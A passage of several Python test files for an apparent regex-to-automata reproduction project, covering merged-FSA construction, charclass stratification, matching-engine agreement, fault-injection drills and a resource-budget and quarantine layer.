        fsas = [compile_re_to_fsa("[abce]x"), compile_re_to_fsa("[bcd]x")]
        strat = stratify_ruleset(fsas)
        for original, rewritten in zip(fsas, strat):
            for text in ("ax", "bx", "cx", "dx", "ex", "fx", "x", ""):
                assert accepts(original, text) == accepts(rewritten, text)

    def test_enables_partial_cc_sharing(self):
        """After stratification the [bc] sub-class is stored once."""
        fsas = compile_ruleset_fsas(["[abce]x", "[bcd]x"])
        plain = merge_fsas(fsas)
        strat_fsas = list(zip([r for r, _ in fsas], stratify_ruleset([f for _, f in fsas])))
        strat = merge_fsas(strat_fsas)
        shared_plain = [t for t in plain.transitions if len(t.bel) == 2]
        shared_strat = [t for t in strat.transitions if len(t.bel) == 2]
        assert len(shared_strat) > len(shared_plain)

    def test_rejects_epsilon(self):
        from repro.automata.thompson import thompson_construct
        from repro.frontend.parser import parse

        with pytest.raises(ValueError):
            stratify_ruleset([thompson_construct(parse("a|b"))])


@given(st.lists(st.sampled_from(["[abce]x", "[bcd]x", "k[ab]d", "(k|h)bc", "kfd", "[a-d]+"]),
                min_size=2, max_size=4, unique=True),
       st.text(alphabet="abcdefkhx", max_size=16))
@settings(max_examples=80, deadline=None)
def test_stratified_merge_matches_plain(patterns, text):
    """Soundness of partial CC merging under activation semantics: the
    stratified MFSA reports exactly the per-rule reference matches (the
    Fig. 5b hazard does not occur)."""
    fsas = compile_ruleset_fsas(patterns)
    strat = list(zip([r for r, _ in fsas], stratify_ruleset([f for _, f in fsas])))
    mfsa = merge_fsas(strat)
    expected = set()
    for rule, fsa in fsas:
        expected |= {(rule, end) for end in find_match_ends(fsa, text)}
    assert reference_match(mfsa, text) == expected
