"""Fault-injection drills: every armed fault surfaces as a taxonomy
error (never a hang, never a bare traceback), within its deadline.
"""

import time

import pytest

import repro.obs as obs
from repro.engine.imfant import IMfantEngine
from repro.guard import faultinject
from repro.guard.budget import Budget
from repro.guard.compiler import GuardedCompiler
from repro.guard.degrade import DegradePolicy, GuardedMatcher
from repro.guard.errors import (
    AllocationFailed,
    CompileError,
    ReproError,
    ScanDeadlineExceeded,
)
from repro.guard.faultinject import InjectedFaultError
from repro.pipeline.compiler import compile_ruleset

pytestmark = pytest.mark.guard


@pytest.fixture(autouse=True)
def clean_faults():
    faultinject.clear()
    yield
    faultinject.clear()


@pytest.fixture
def mfsa():
    return compile_ruleset(["abc", "abd"]).mfsas[0]


class TestCompileFaults:
    def test_rule_fault_is_a_taxonomy_error(self):
        with faultinject.inject("compile.rule", "EVIL"):
            with pytest.raises(InjectedFaultError) as info:
                compile_ruleset(["abc", "EVILx", "abd"])
        assert isinstance(info.value, CompileError)
        assert info.value.rule == 1

    def test_rule_fault_quarantines_exactly_the_victim(self):
        with faultinject.inject("compile.rule", "EVIL"):
            compilation = GuardedCompiler().compile(["abc", "EVILx", "abd"])
        assert compilation.quarantine.rules() == [1]
        assert compilation.surviving_ids == [0, 2]
        assert compilation.quarantine.entry_for(1).error_type == "InjectedFaultError"

    def test_stage_fault_names_the_stage(self):
        with faultinject.inject("compile.stage", "merging"):
            with pytest.raises(InjectedFaultError) as info:
                compile_ruleset(["abc"])
        assert info.value.stage == "merging"

    def test_disarmed_points_cost_nothing(self):
        assert not faultinject.active_points()
        compile_ruleset(["abc"])  # no fault, no error


class TestScanFaults:
    def test_step_delay_trips_the_scan_deadline(self, mfsa):
        engine = IMfantEngine(mfsa, scan_deadline=0.02, deadline_stride=1)
        started = time.perf_counter()
        with faultinject.inject("engine.step_delay", 0.005):
            with pytest.raises(ScanDeadlineExceeded) as info:
                engine.run(b"zzabczz" * 64)
        elapsed = time.perf_counter() - started
        assert elapsed < 2.0  # the deadline bound, not a hang
        error = info.value
        assert isinstance(error, ReproError)
        assert error.limit == 0.02
        partial = error.partial
        assert partial is not None
        assert 0 < partial.stats.chars_processed < 7 * 64
        assert partial.stats.wall_seconds > 0

    def test_partial_result_keeps_matches_found_so_far(self, mfsa):
        engine = IMfantEngine(mfsa, scan_deadline=0.02, deadline_stride=1)
        payload = b"abc" + b"z" * 1024
        with faultinject.inject("engine.step_delay", 0.005):
            with pytest.raises(ScanDeadlineExceeded) as info:
                engine.run(payload)
        assert (0, 3) in info.value.partial.matches

    def test_no_deadline_means_no_check(self, mfsa):
        # armed delay but no deadline: slow, not fatal (stride gates fire)
        engine = IMfantEngine(mfsa)
        result = engine.run(b"zzabczz")
        assert (0, 5) in result.matches


class TestAllocFaults:
    def test_alloc_fault_becomes_allocation_failed(self, mfsa):
        with faultinject.inject("alloc", "numpy"):
            with pytest.raises(AllocationFailed) as info:
                IMfantEngine(mfsa, backend="numpy")
        assert isinstance(info.value, ReproError)
        assert "numpy" in str(info.value)

    def test_guarded_matcher_degrades_past_the_fault(self, mfsa):
        with faultinject.inject("alloc", "numpy"):
            matcher = GuardedMatcher([mfsa], backend="numpy")
            run = matcher.run(b"zzabczzabdzz")
        assert matcher.backend == "python"
        assert [s.to_backend for s in run.degradations] == ["python"]
        assert (0, 5) in run.matches and (1, 10) in run.matches

    def test_ladder_bottom_propagates(self, mfsa):
        with faultinject.inject("alloc", True):
            with pytest.raises(AllocationFailed):
                GuardedMatcher([mfsa], backend="lazy").run(b"abc")

    def test_policy_can_refuse_to_degrade(self, mfsa):
        policy = DegradePolicy(on_alloc_failure=False)
        with faultinject.inject("alloc", "numpy"):
            with pytest.raises(AllocationFailed):
                GuardedMatcher([mfsa], backend="numpy", policy=policy).run(b"abc")


class TestCachePressureFaults:
    def test_pressure_clamps_the_lazy_cache(self, mfsa):
        with faultinject.inject("lazy.cache_pressure", True):
            engine = IMfantEngine(mfsa, backend="lazy")
        assert engine.lazy_cache.max_entries == 1

    def test_thrash_degrades_the_next_run(self, mfsa):
        policy = DegradePolicy(min_lookups=16, thrash_hit_rate=0.5)
        with faultinject.inject("lazy.cache_pressure", True):
            matcher = GuardedMatcher([mfsa], backend="lazy", policy=policy)
            first = matcher.run(b"abcdzzabdzz" * 16)
        # the thrashing run itself is exact ...
        assert (0, 3) in first.matches
        # ... and the matcher has stepped down for subsequent runs
        assert matcher.backend == "numpy"
        assert any("cache-thrash" in s.reason for s in matcher.degradations)


class TestEnvActivation:
    def test_repro_faults_env_parses(self):
        armed = faultinject.load_env(
            {"REPRO_FAULTS": "engine.step_delay=0.01, alloc=numpy"}
        )
        assert armed == 2
        assert faultinject.value("engine.step_delay") == 0.01
        assert faultinject.value("alloc") == "numpy"

    def test_unknown_point_is_loud(self):
        with pytest.raises(ValueError):
            faultinject.load_env({"REPRO_FAULTS": "compile.rul=EVIL"})

    def test_empty_env_arms_nothing(self):
        assert faultinject.load_env({}) == 0


class TestGuardCounters:
    def test_counters_visible_on_the_registry(self):
        with obs.capture() as cap:
            with faultinject.inject("compile.rule", "EVIL"):
                GuardedCompiler(budget=Budget(max_loop_copies=256)).compile(
                    ["abc", "EVILx", "x{5000}"]
                )
        names = {inst.name for inst in cap.registry.instruments()}
        assert {"guard_budget_exceeded_total", "guard_quarantined_rules",
                "guard_degradations_total"} <= names
        gauge = next(i for i in cap.registry.instruments()
                     if i.name == "guard_quarantined_rules")
        assert gauge.snapshot()["value"] == 2

    def test_degradations_counted(self, mfsa):
        with obs.capture() as cap:
            with faultinject.inject("alloc", "numpy"):
                GuardedMatcher([mfsa], backend="numpy").run(b"abc")
        counter = next(i for i in cap.registry.instruments()
                       if i.name == "guard_degradations_total")
        assert counter.snapshot()["value"] == 1


@pytest.mark.counting
class TestCountingRegisterPressure:
    """Budget exhaustion / injected pressure during counting-register
    allocation steps the ladder (counting → lazy) instead of crashing."""

    PAYLOAD = b"zz abbbbbc x1234y abc zz" * 8

    @pytest.fixture
    def counting_mfsas(self):
        from repro.pipeline.compiler import CompileOptions

        mfsas = compile_ruleset(
            ["ab{3,9}c", "x[0-9]{4,}y"],
            CompileOptions(counting=True, count_threshold=3, emit_anml=False),
        ).mfsas
        assert any(getattr(m, "counting", ()) for m in mfsas)
        return mfsas

    def _oracle(self, mfsas):
        return GuardedMatcher(mfsas, backend="python").run(self.PAYLOAD).matches

    def test_pressure_becomes_allocation_failed(self, counting_mfsas):
        with faultinject.inject("counting.register_pressure", 1):
            with pytest.raises(AllocationFailed) as info:
                IMfantEngine(counting_mfsas[0], backend="counting")
        assert isinstance(info.value, ReproError)
        assert info.value.stage == "counting.registers"

    def test_matcher_demotes_counting_to_lazy(self, counting_mfsas):
        oracle = self._oracle(counting_mfsas)
        with faultinject.inject("counting.register_pressure", 1):
            matcher = GuardedMatcher(counting_mfsas, backend="counting")
            run = matcher.run(self.PAYLOAD)
        assert matcher.backend == "lazy"
        assert run.matches == oracle
        step = run.degradations[0]
        assert step.from_backend == "counting" and step.to_backend == "lazy"
        assert step.reason.startswith("counting-register-pressure:")

    def test_register_budget_exhaustion_steps_the_ladder(self, counting_mfsas):
        matcher = GuardedMatcher(
            counting_mfsas,
            backend="counting",
            counting_budget=Budget(max_counting_registers=1),
        )
        run = matcher.run(self.PAYLOAD)
        assert matcher.backend == "lazy"
        assert run.matches == self._oracle(counting_mfsas)
        assert run.degradations[0].reason.startswith("counting-register-pressure:")

    def test_policy_can_refuse_to_demote(self, counting_mfsas):
        policy = DegradePolicy(on_alloc_failure=False)
        with faultinject.inject("counting.register_pressure", 1):
            with pytest.raises(AllocationFailed):
                GuardedMatcher(
                    counting_mfsas, backend="counting", policy=policy
                ).run(self.PAYLOAD)

    def test_threshold_above_register_count_is_inert(self, counting_mfsas):
        with faultinject.inject("counting.register_pressure", 99):
            engine = IMfantEngine(counting_mfsas[0], backend="counting")
        run = engine.run(self.PAYLOAD)
        assert run.matches == self._oracle(counting_mfsas)

    def test_shard_pool_demotes_counting_to_lazy(self, counting_mfsas):
        from repro.serve.artifacts import Artifact
        from repro.serve.shards import ShardPool

        artifact = Artifact(
            key="drill", patterns=["ab{3,9}c", "x[0-9]{4,}y"],
            mfsas=list(counting_mfsas), loaded_from_cache=False,
        )
        with faultinject.inject("counting.register_pressure", 1):
            with ShardPool(artifact, num_shards=2, backend="counting") as pool:
                result = pool.scan(self.PAYLOAD)
        assert pool.backend == "lazy"
        assert result.matches == self._oracle(counting_mfsas)
        assert pool.degradations[0].reason.startswith("counting-register-pressure:")
