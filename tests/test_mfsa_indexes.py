"""Tests for the MFSA's index/accessor helpers used by the merger."""

from repro.labels import CharClass
from repro.mfsa.merge import merge_fsas
from repro.mfsa.model import Mfsa

from conftest import compile_ruleset_fsas


def sample_mfsa() -> Mfsa:
    return merge_fsas(compile_ruleset_fsas(["ab", "a[bc]", "ad"]))


class TestArcsByLabel:
    def test_groups_by_exact_mask(self):
        mfsa = sample_mfsa()
        index = mfsa.arcs_by_label()
        a_mask = CharClass.single("a").mask
        bc_mask = CharClass.from_chars("bc").mask
        assert a_mask in index
        assert bc_mask in index
        # every index entry points at arcs with that exact label
        for mask, arc_ids in index.items():
            for i in arc_ids:
                assert mfsa.transitions[i].label.mask == mask

    def test_covers_all_transitions(self):
        mfsa = sample_mfsa()
        total = sum(len(ids) for ids in mfsa.arcs_by_label().values())
        assert total == mfsa.num_transitions


class TestOutgoingIndex:
    def test_sources_complete(self):
        mfsa = sample_mfsa()
        index = mfsa.outgoing_index()
        for i, t in enumerate(mfsa.transitions):
            assert i in index[t.src]

    def test_states_without_arcs_absent(self):
        mfsa = sample_mfsa()
        index = mfsa.outgoing_index()
        sources = {t.src for t in mfsa.transitions}
        assert set(index) == sources


class TestAlphabetAndPatterns:
    def test_alphabet_union(self):
        mfsa = sample_mfsa()
        assert mfsa.alphabet_mask() == CharClass.from_chars("abcd").mask

    def test_patterns_recorded_per_rule(self):
        mfsa = sample_mfsa()
        assert mfsa.patterns == {0: "ab", 1: "a[bc]", 2: "ad"}

    def test_mtransition_repr_lists_belongings(self):
        mfsa = sample_mfsa()
        shared = next(t for t in mfsa.transitions if len(t.bel) > 1)
        text = repr(shared)
        for rule in sorted(shared.bel):
            assert str(rule) in text
