"""Unit tests for multiplicity simplification (paper §IV-C pass 3, Fig. 5b)."""

import pytest
from hypothesis import given, settings

from repro.automata.epsilon import remove_epsilon
from repro.automata.fsa import EPSILON, Fsa
from repro.automata.multiplicity import multiplicity, simplify_multiplicity
from repro.automata.simulate import accepts
from repro.automata.statemerge import merge_suffix_states
from repro.automata.thompson import thompson_construct
from repro.frontend.parser import parse
from repro.labels import CharClass

from conftest import ere_patterns, input_strings


def build(pattern: str) -> Fsa:
    """ε-removal + suffix merging: the pipeline state right before the
    multiplicity pass runs (suffix merging is what makes parallel arcs
    land between the same state pair — see repro.automata.statemerge)."""
    return merge_suffix_states(remove_epsilon(thompson_construct(parse(pattern))))


class TestSimplify:
    def test_single_char_alternation_fuses(self):
        """Fig. 5b: (k|h) becomes a single [hk]-labelled arc."""
        fsa = simplify_multiplicity(build("(k|h)bc"))
        assert max(multiplicity(fsa).values()) == 1
        labels = {t.label.mask for t in fsa.transitions}
        assert CharClass.from_chars("kh").mask in labels

    def test_fused_label_differs_from_plain_k(self):
        """After the pass, [kh] ≠ k, so the unsafe Fig. 5b merge is
        structurally impossible."""
        a1 = simplify_multiplicity(build("(k|h)bc"))
        a2 = simplify_multiplicity(build("kfd"))
        labels1 = {t.label.mask for t in a1.transitions}
        labels2 = {t.label.mask for t in a2.transitions}
        assert CharClass.single("k").mask in labels2
        assert CharClass.single("k").mask not in labels1

    def test_idempotent(self):
        fsa = simplify_multiplicity(build("(a|b|c)d"))
        again = simplify_multiplicity(fsa)
        assert {(t.src, t.dst, t.label.mask) for t in fsa.transitions} == \
               {(t.src, t.dst, t.label.mask) for t in again.transitions}

    def test_preserves_finals_and_initial(self):
        fsa = build("(a|b)c")
        out = simplify_multiplicity(fsa)
        assert out.initial == fsa.initial
        assert out.finals == fsa.finals

    def test_rejects_epsilon(self):
        fsa = Fsa()
        s0, s1 = fsa.add_state(), fsa.add_state()
        fsa.add_transition(s0, s1, EPSILON)
        fsa.finals = {s1}
        with pytest.raises(ValueError):
            simplify_multiplicity(fsa)

    def test_multiplicity_counts(self):
        fsa = build("(a|b)c")
        counts = multiplicity(fsa)
        assert max(counts.values()) >= 2


@given(ere_patterns(), input_strings())
@settings(max_examples=150, deadline=None)
def test_simplification_preserves_language(pattern, text):
    fsa = build(pattern)
    fused = simplify_multiplicity(fsa)
    assert accepts(fsa, text) == accepts(fused, text)
    assert max(multiplicity(fused).values(), default=1) == 1
