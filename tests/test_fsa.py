"""Unit tests for the FSA model (structure, transforms, isomorphism)."""

import pytest

from repro.automata.fsa import EPSILON, Fsa, Transition, concat_state_count, isomorphic
from repro.automata.optimize import compile_re_to_fsa
from repro.labels import CharClass


def simple_fsa() -> Fsa:
    fsa = Fsa()
    s0, s1, s2 = fsa.add_state(), fsa.add_state(), fsa.add_state()
    fsa.add_transition(s0, s1, CharClass.single("a"))
    fsa.add_transition(s1, s2, CharClass.single("b"))
    fsa.finals = {s2}
    return fsa


class TestConstruction:
    def test_add_state_sequential(self):
        fsa = Fsa()
        assert [fsa.add_state() for _ in range(3)] == [0, 1, 2]
        assert fsa.num_states == 3

    def test_add_transition_bounds_checked(self):
        fsa = Fsa()
        fsa.add_state()
        with pytest.raises(ValueError):
            fsa.add_transition(0, 5, CharClass.single("a"))

    def test_empty_label_rejected(self):
        fsa = Fsa()
        fsa.add_state()
        with pytest.raises(ValueError):
            fsa.add_transition(0, 0, CharClass.empty())

    def test_epsilon_allowed(self):
        fsa = Fsa()
        s0, s1 = fsa.add_state(), fsa.add_state()
        fsa.add_transition(s0, s1, EPSILON)
        assert fsa.has_epsilon()


class TestQueries:
    def test_alphabet_mask(self):
        fsa = simple_fsa()
        assert fsa.alphabet_mask() == CharClass.from_chars("ab").mask

    def test_total_cc_length_counts_wide_labels_only(self):
        fsa = simple_fsa()
        assert fsa.total_cc_length() == 0
        fsa.add_transition(0, 2, CharClass.from_chars("xyz"))
        assert fsa.total_cc_length() == 3

    def test_accepts_empty(self):
        assert compile_re_to_fsa("a*").accepts_empty()
        assert not compile_re_to_fsa("a").accepts_empty()

    def test_outgoing(self):
        fsa = simple_fsa()
        assert len(fsa.outgoing(0)) == 1
        assert fsa.outgoing(2) == []

    def test_concat_state_count(self):
        fsas = [simple_fsa(), simple_fsa()]
        assert concat_state_count(fsas) == (6, 4)


class TestTransforms:
    def test_renumbered(self):
        fsa = simple_fsa()
        mapping = {0: 2, 1: 0, 2: 1}
        out = fsa.renumbered(mapping)
        assert out.initial == 2
        assert out.finals == {1}
        assert (2, 0) in {(t.src, t.dst) for t in out.transitions}

    def test_trimmed_drops_unreachable(self):
        fsa = simple_fsa()
        orphan = fsa.add_state()
        fsa.add_transition(orphan, orphan, CharClass.single("z"))
        out = fsa.trimmed()
        assert out.num_states == 3
        assert all(t.label.mask != CharClass.single("z").mask for t in out.transitions)

    def test_copy_is_independent(self):
        fsa = simple_fsa()
        clone = fsa.copy()
        clone.add_state()
        clone.finals.add(0)
        assert fsa.num_states == 3
        assert 0 not in fsa.finals

    def test_validate_catches_bad_final(self):
        fsa = simple_fsa()
        fsa.finals.add(99)
        with pytest.raises(ValueError):
            fsa.validate()


class TestIsomorphism:
    def test_identical(self):
        assert isomorphic(simple_fsa(), simple_fsa())

    def test_renamed(self):
        fsa = simple_fsa()
        renamed = fsa.renumbered({0: 1, 1: 2, 2: 0})
        assert isomorphic(fsa, renamed)

    def test_different_labels(self):
        other = simple_fsa()
        other.transitions[0] = Transition(0, 1, CharClass.single("x"))
        assert not isomorphic(simple_fsa(), other)

    def test_different_shape(self):
        fsa = compile_re_to_fsa("ab")
        other = compile_re_to_fsa("a|b")
        assert not isomorphic(fsa, other)

    def test_different_finals(self):
        other = simple_fsa()
        other.finals = {1}
        assert not isomorphic(simple_fsa(), other)

    def test_self_equivalent_patterns(self):
        a = compile_re_to_fsa("a(b|c)d")
        b = compile_re_to_fsa("a(c|b)d")
        assert isomorphic(a, b)
