"""Tests for the composed single-FSA pipeline, with Python `re` as oracle."""

import re

import pytest
from hypothesis import given, settings

from repro.automata.multiplicity import multiplicity
from repro.automata.optimize import OptimizeOptions, compile_re_to_fsa, optimize_ast
from repro.automata.simulate import accepts, find_match_ends
from repro.frontend.parser import parse

from conftest import ere_patterns, input_strings


class TestPipeline:
    def test_output_is_epsilon_free_and_simplified(self):
        fsa = compile_re_to_fsa("(a|b){1,2}c*")
        assert not fsa.has_epsilon()
        assert max(multiplicity(fsa).values(), default=1) == 1
        fsa.validate()

    def test_options_disable_passes(self):
        options = OptimizeOptions(simplify_multiplicity=False)
        fsa = compile_re_to_fsa("(a|b)c", options)
        assert max(multiplicity(fsa).values()) == 2

    def test_optimize_ast_passthrough_when_disabled(self):
        node = parse("a{2}")
        assert optimize_ast(node, OptimizeOptions(expand_loops=False)) == node

    def test_pattern_attached(self):
        assert compile_re_to_fsa("abc").pattern == "abc"

    @pytest.mark.parametrize("pattern,text,expected_ends", [
        ("abc", "xxabcabc", {5, 8}),
        ("a+", "aa", {1, 2}),
        ("x.*y", "xzzy", {4}),
        ("[0-9]{2}", "a12b34", {3, 6}),
    ])
    def test_stream_matching(self, pattern, text, expected_ends):
        fsa = compile_re_to_fsa(pattern)
        assert find_match_ends(fsa, text) == expected_ends


class TestReOracle:
    """The constructed automata agree with Python's `re` on the common
    ERE subset — full-match membership and streaming end offsets."""

    @given(ere_patterns(), input_strings())
    @settings(max_examples=250, deadline=None)
    def test_full_match_agrees_with_re(self, pattern, text):
        fsa = compile_re_to_fsa(pattern)
        oracle = re.compile(f"(?:{pattern})\\Z")
        assert accepts(fsa, text) == bool(oracle.match(text))

    @given(ere_patterns(), input_strings())
    @settings(max_examples=150, deadline=None)
    def test_match_ends_agree_with_re(self, pattern, text):
        fsa = compile_re_to_fsa(pattern)
        oracle = re.compile(f"(?:{pattern})\\Z")
        expected = {
            end
            for end in range(len(text) + 1)
            for start in range(end + 1)
            if oracle.match(text, start, end) and oracle.match(text, start, end).end() == end
        }
        got = find_match_ends(fsa, text)
        if accepts(fsa, ""):
            expected |= set(range(len(text) + 1))
        assert got == expected
