"""End-to-end integration across all six synthetic suites.

For every suite (at a tiny scale), the full pipeline is run at several
merging factors, through ANML and back, on all engines — verifying that
every execution path reports identical matches on the suite's stream.
This is the repository's broadest single correctness gate.
"""

import pytest

from repro.anml import read_anml, write_anml
from repro.datasets import DATASET_PROFILES, generate_ruleset, generate_stream
from repro.decompose.engine import PrefilterEngine
from repro.engine.imfant import IMfantEngine
from repro.engine.infant import INfantEngine
from repro.engine.streaming import StreamingMatcher
from repro.pipeline.compiler import CompileOptions, compile_ruleset

SCALE = 30  # 8–10 REs per suite keeps the cross-product fast
STREAM = 512


@pytest.fixture(scope="module", params=sorted(DATASET_PROFILES))
def suite(request):
    profile = DATASET_PROFILES[request.param].scaled(SCALE)
    ruleset = generate_ruleset(profile)
    stream = generate_stream(ruleset, STREAM)
    return ruleset, stream


@pytest.fixture(scope="module")
def baseline(suite):
    """Per-rule iNFAnt matches — the ground truth for the suite."""
    ruleset, stream = suite
    compiled = compile_ruleset(ruleset.patterns, CompileOptions(merging_factor=1, emit_anml=False))
    matches = set()
    for rule_id, fsa in enumerate(compiled.fsas):
        matches |= INfantEngine(fsa, rule_id).run(stream).matches
    return matches


@pytest.mark.parametrize("merging_factor", [1, 3, 0])
def test_imfant_matches_baseline(suite, baseline, merging_factor):
    ruleset, stream = suite
    compiled = compile_ruleset(
        ruleset.patterns, CompileOptions(merging_factor=merging_factor, emit_anml=False)
    )
    for backend in ("python", "numpy"):
        got = set()
        for mfsa in compiled.mfsas:
            got |= IMfantEngine(mfsa, backend=backend).run(stream).matches
        assert got == baseline, (ruleset.name, merging_factor, backend)


def test_anml_roundtrip_matches_baseline(suite, baseline):
    ruleset, stream = suite
    compiled = compile_ruleset(ruleset.patterns, CompileOptions(merging_factor=0))
    recovered = read_anml(compiled.anml[0])
    got = IMfantEngine(recovered).run(stream).matches
    assert got == baseline, ruleset.name


def test_streaming_chunks_match_baseline(suite, baseline):
    ruleset, stream = suite
    compiled = compile_ruleset(ruleset.patterns, CompileOptions(merging_factor=0, emit_anml=False))
    matcher = StreamingMatcher(compiled.mfsas[0])
    for start in range(0, len(stream), 97):  # deliberately odd chunking
        matcher.feed(stream[start : start + 97])
    assert matcher.matches == baseline, ruleset.name


def test_prefilter_engine_matches_baseline(suite, baseline):
    ruleset, stream = suite
    engine = PrefilterEngine(ruleset.patterns)
    got, _ = engine.run(stream)
    assert got == baseline, ruleset.name


def test_clustered_grouping_matches_baseline(suite, baseline):
    ruleset, stream = suite
    compiled = compile_ruleset(
        ruleset.patterns,
        CompileOptions(merging_factor=3, grouping="clustered", emit_anml=False),
    )
    got = set()
    for mfsa in compiled.mfsas:
        got |= IMfantEngine(mfsa).run(stream).matches
    assert got == baseline, ruleset.name


def test_stratified_matches_baseline(suite, baseline):
    ruleset, stream = suite
    compiled = compile_ruleset(
        ruleset.patterns,
        CompileOptions(merging_factor=0, stratify_charclasses=True, emit_anml=False),
    )
    got = IMfantEngine(compiled.mfsas[0]).run(stream).matches
    assert got == baseline, ruleset.name
