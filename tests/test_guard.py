"""Tests for the resource-governance layer (repro.guard).

Covers the error taxonomy (re-parenting + exit codes), budgets and the
cooperative meter, per-rule quarantine with bisection attribution, the
degradation-aware matcher, and the governed CLI exit codes.
"""

import pytest

from repro.engine.imfant import IMfantEngine
from repro.guard.budget import Budget
from repro.guard.compiler import GuardedCompiler
from repro.guard.degrade import GuardedMatcher
from repro.guard.errors import (
    EXIT_BUDGET,
    EXIT_ERROR,
    EXIT_PARTIAL,
    EXIT_USAGE,
    BudgetExceeded,
    CompileError,
    DeadlineExceeded,
    FormatError,
    LoopBudgetExceeded,
    MemoryBudgetExceeded,
    ReproError,
    RuleQuarantined,
    UsageError,
    exit_code_for,
    stage_of,
)
from repro.pipeline.compiler import CompileOptions, compile_ruleset

pytestmark = pytest.mark.guard


class TestTaxonomy:
    """Every legacy error is a ReproError AND keeps its legacy base."""

    def test_regex_syntax_error(self):
        from repro.frontend.errors import RegexSyntaxError

        assert issubclass(RegexSyntaxError, CompileError)
        assert issubclass(RegexSyntaxError, ValueError)
        with pytest.raises(ReproError):
            compile_ruleset(["a{bad"])

    def test_snort_parse_error(self):
        from repro.frontend.snortlite import SnortParseError

        assert issubclass(SnortParseError, CompileError)
        assert issubclass(SnortParseError, ValueError)

    def test_dfa_explosion_error(self):
        from repro.dfa.dfa import DfaExplosionError

        assert issubclass(DfaExplosionError, BudgetExceeded)
        assert issubclass(DfaExplosionError, RuntimeError)

    def test_derivative_budget_error(self):
        from repro.automata.brzozowski import DerivativeBudgetError

        assert issubclass(DerivativeBudgetError, BudgetExceeded)
        assert issubclass(DerivativeBudgetError, RuntimeError)

    def test_format_errors(self):
        from repro.anml.reader import AnmlFormatError
        from repro.mfsa.serialize import MfsaJsonError

        assert issubclass(AnmlFormatError, FormatError)
        assert issubclass(AnmlFormatError, ValueError)
        assert issubclass(MfsaJsonError, FormatError)
        assert issubclass(MfsaJsonError, ValueError)

    def test_legacy_catch_sites_still_work(self):
        # `except ValueError` predates the taxonomy and must keep working
        with pytest.raises(ValueError):
            compile_ruleset(["(unclosed"])

    def test_exit_codes(self):
        assert exit_code_for(UsageError("x")) == EXIT_USAGE
        assert exit_code_for(BudgetExceeded("x")) == EXIT_BUDGET
        assert exit_code_for(LoopBudgetExceeded("x")) == EXIT_BUDGET
        assert exit_code_for(RuleQuarantined("x")) == EXIT_PARTIAL
        assert exit_code_for(CompileError("x")) == EXIT_ERROR
        with pytest.raises(TypeError):
            exit_code_for(KeyError("not ours"))

    def test_stage_of(self):
        assert stage_of(CompileError("x", stage="merging")) == "merging"
        assert stage_of(UsageError("x")) == "usage"
        assert stage_of(KeyError("x")) == "repro"


class TestBudget:
    def test_validation(self):
        with pytest.raises(ValueError):
            Budget(max_states=0)
        with pytest.raises(ValueError):
            Budget(deadline=-1.0)
        assert Budget().unlimited
        assert not Budget(max_states=10).unlimited

    def test_state_budget(self):
        meter = Budget(max_states=5).start()
        meter.charge_states(5, stage="test")
        with pytest.raises(BudgetExceeded) as info:
            meter.charge_states(1, stage="test", rule=3)
        assert info.value.resource == "states"
        assert info.value.limit == 5
        assert info.value.rule == 3
        assert info.value.counters["states"] == 6

    def test_transition_budget(self):
        meter = Budget(max_transitions=2).start()
        with pytest.raises(BudgetExceeded) as info:
            meter.charge_transitions(3, stage="test")
        assert info.value.resource == "transitions"

    def test_memory_ceiling(self):
        meter = Budget(max_memory_bytes=1024).start()
        with pytest.raises(MemoryBudgetExceeded):
            meter.charge_memory(2048, stage="test")

    def test_compile_under_state_budget(self):
        options = CompileOptions(budget=Budget(max_states=4))
        with pytest.raises(BudgetExceeded) as info:
            compile_ruleset(["abcdefgh"], options)
        assert info.value.stage == "ast_to_fsa"

    def test_compile_deadline(self):
        options = CompileOptions(budget=Budget(deadline=1e-9))
        with pytest.raises(DeadlineExceeded) as info:
            compile_ruleset(["abc", "abd"], options)
        assert info.value.resource == "wall_seconds"

    def test_unbudgeted_compile_unchanged(self):
        result = compile_ruleset(["abc", "abd"])
        assert len(result.mfsas) == 1


class TestStrictLoopExpansion:
    """max_loop_copies caps expansion and names the offending repeat."""

    def test_over_budget_repeat_raises_with_provenance(self):
        options = CompileOptions(budget=Budget(max_loop_copies=256))
        with pytest.raises(LoopBudgetExceeded) as info:
            compile_ruleset(["abc", "x{5000}"], options)
        error = info.value
        assert error.rule == 1
        assert "x{5000}" in str(error)
        assert error.repeat == "x{5000}"
        assert error.stage == "ast_to_fsa"

    def test_without_budget_big_repeats_stay_compressed(self):
        # the legacy path: over-default-budget repeats compress, not fail
        result = compile_ruleset(["x{5000}"])
        assert len(result.mfsas) == 1


class TestQuarantine:
    PATTERNS = ["abc", "x{5000}", "abd"]
    BUDGET = Budget(max_loop_copies=256)

    def test_exactly_the_bad_rule_is_quarantined(self):
        compilation = GuardedCompiler(budget=self.BUDGET).compile(self.PATTERNS)
        assert compilation.partial
        assert compilation.quarantine.rules() == [1]
        entry = compilation.quarantine.entry_for(1)
        assert entry.error_type == "LoopBudgetExceeded"
        assert entry.stage == "ast_to_fsa"
        assert "rule 1" in entry.message and "x{5000}" in entry.message
        assert compilation.surviving_ids == [0, 2]

    def test_survivors_identical_to_solo_compile(self):
        """Acceptance criterion: survivors' output is byte-identical to
        compiling the survivors alone."""
        guarded = GuardedCompiler(
            CompileOptions(emit_anml=True), budget=self.BUDGET
        ).compile(self.PATTERNS)
        solo = compile_ruleset(["abc", "abd"],
                               CompileOptions(emit_anml=True, budget=self.BUDGET))
        assert guarded.result.anml == solo.anml  # byte-identical ANML
        data = b"zzabczzzabdzz"
        guarded_matches = IMfantEngine(guarded.result.mfsas[0]).run(data).matches
        solo_matches = IMfantEngine(solo.mfsas[0]).run(data).matches
        assert guarded_matches == solo_matches

    def test_matches_remap_to_original_rule_ids(self):
        compilation = GuardedCompiler(budget=self.BUDGET).compile(self.PATTERNS)
        data = b"zzabczzzabdzz"
        local = IMfantEngine(compilation.result.mfsas[0]).run(data).matches
        assert compilation.remap_matches(local) == {(0, 5), (2, 11)}

    def test_fail_policy_propagates(self):
        with pytest.raises(LoopBudgetExceeded):
            GuardedCompiler(budget=self.BUDGET, on_error="fail").compile(self.PATTERNS)

    def test_all_rules_bad_raises_rule_quarantined(self):
        with pytest.raises(RuleQuarantined):
            GuardedCompiler(budget=self.BUDGET).compile(["x{9000}", "y{9000}"])

    def test_empty_ruleset_is_usage_error(self):
        with pytest.raises(UsageError):
            GuardedCompiler().compile([])

    def test_unknown_policy_is_usage_error(self):
        with pytest.raises(UsageError):
            GuardedCompiler(on_error="retry")

    def test_report_round_trips_to_dict(self):
        compilation = GuardedCompiler(budget=self.BUDGET).compile(self.PATTERNS)
